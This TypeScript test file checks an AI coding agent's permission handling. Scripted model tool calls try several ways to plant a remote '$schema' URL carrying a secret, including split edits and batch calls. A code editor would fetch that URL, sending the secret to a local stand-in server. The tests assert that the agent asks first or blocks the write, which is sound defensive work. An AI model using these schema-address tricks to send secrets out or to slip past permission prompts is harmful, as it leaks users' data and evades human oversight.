import assert from 'node:assert/strict';
import { rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { ToolCall } from '../../../src/agent/model.ts';
import { openFileWorkspace } from '../../../src/node/fileWorkspace.ts';
import { createTools } from '../../../src/tools/index.ts';
import { call, calls, says, scriptedModel } from '../../fakes/scriptedModel.ts';
import { runToEnd } from '../../fakes/turnHarness.ts';
import { attack, openScene, reasonsOf, type Scene } from './attackHarness.ts';

const tools = createTools({ onBug: error => assert.fail(String(error)) }, { isDelegate: false, isReadOnly: false });

/** Ways to have the editor send a secret along, each as one answer of a model. */
function ways(address: string): Readonly<Record<string, readonly ToolCall[]>> {
	const edit = (path: string, ...edits: readonly (readonly [string, string])[]) =>
		call(`edit ${path}`, 'edit', { path, edits: edits.map(([oldText, newText]) => ({ oldText, newText })) });
	const write = (path: string, content: string) => call(`write ${path}`, 'write', { path, content });
	return {
		'a new file of data': [write('data.json', `{"$schema":"${address}"}`)],
		'a file of data that is there': [edit('there.json', ['"a": 1', `"$schema": "${address}"`])],
		'a comment of YAML': [write('a.yaml', `# yaml-language-server: $schema=${address}\n`)],
		'several edits, none of which has it': [
			edit(
				'there.json',
				['"a"', '"$sch"'],
				['"$sch"', '"$schema"'],
				['1', `"${address.slice(0, 10)}"`],
				[address.slice(0, 10), address],
			),
		],
		'a batch': [
			call('b', 'batch', {
				calls: [{ tool: 'write', arguments: { path: 'data.json', content: `{"$schema":"${address}"}` } }],
			}),
		],
	};
}

describe('addresses of schemas as a way out', () => {
	let scene: Scene;
	let server: Server;
	let address: string;
	let requests: string[];

	beforeEach(async () => {
		scene = await openScene();
		await scene.put('there.json', '{\n\t"a": 1\n}\n');
		requests = [];
		server = createServer((request, response) => {
			requests.push(request.url ?? '');
			response.end('{}');
		});
		await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
		const listening = server.address();
		address = `http://127.0.0.1:${typeof listening === 'object' ? listening?.port : ''}/s?k=SECRET`;
	});
	afterEach(async () => {
		await new Promise(resolve => server.close(resolve));
		await scene.dispose();
	});

	/** Does what an editor does with files that it shows. */
	async function editorLooks(): Promise<void> {
		for (const text of Object.values(await scene.snapshot())) {
			for (const [, found = ''] of text.matchAll(/\$schema["\s]*[:=]["\s]*(http:[^"\s]+)/g)) {
				await (await fetch(found)).text();
			}
		}
	}

	const harmless = { path: 'data.json', content: '{"$schema": "./x.json"}' };
	const fill = () => ({ path: 'data.json', edits: [{ oldText: './x.json', newText: address }] });

	it('is asked for where an earlier call made the file ready for it', async () => {
		for (const allow of ['no', 'once'] as const) {
			requests = [];
			const run = await runToEnd({
				client: scriptedModel(calls(call('w', 'write', harmless), call('e', 'edit', fill())), says('ok')),
				tools,
				workspace: openFileWorkspace({ folder: scene.folder, platform: process.platform }),
				allowed: { level: 'everything' },
				async ask() {
					await editorLooks();
					assert.deepEqual(requests, []);
					return { allow };
				},
			});
			assert.deepEqual(reasonsOf(run), ['schema']);
			await editorLooks();
			assert.deepEqual(requests, allow === 'once' ? ['/s?k=SECRET'] : []);
			await rm(join(scene.folder, 'data.json'));
		}
	});

	it('is not taken where nobody could be asked: a call of a batch that an earlier one made fit', async () => {
		const inner = [
			{ tool: 'write', arguments: harmless },
			{ tool: 'edit', arguments: fill() },
		];
		const made = { tools, calls: [call('b', 'batch', { calls: inner })] };
		const { asked, results, after } = await attack(scene, made, 'once');
		assert.deepEqual(asked, []);
		assert.match(results['b'] ?? '', /2 of 2, edit: failed\]\n```\nNot run: .*changed since it was allowed/);
		assert.equal(after['ws/data.json'], harmless.content);
	});

	for (const level of ['edits', 'everything'] as const) {
		for (const what of Object.keys(ways(''))) {
			it(`is asked for at the level "${level}": ${what}`, async () => {
				const made = { tools, calls: ways(address)[what] ?? [], allowed: { level } };
				const refused = await attack(scene, made, 'no', editorLooks);
				await editorLooks();
				assert.deepEqual(requests, []);
				assert.deepEqual(reasonsOf(refused), ['schema']);
				assert.deepEqual(refused.after, refused.before);
				const { asked } = await attack(scene, made, 'once', editorLooks);
				const [request] = asked;
				assert.deepEqual((request?.items?.[0] ?? request)?.remoteSchemas, [address]);
				assert.equal(request?.offer, undefined);
				assert.deepEqual(requests, [], 'before the answer');
				await editorLooks();
				assert.deepEqual(requests, ['/s?k=SECRET']);
			});
		}
	}
});
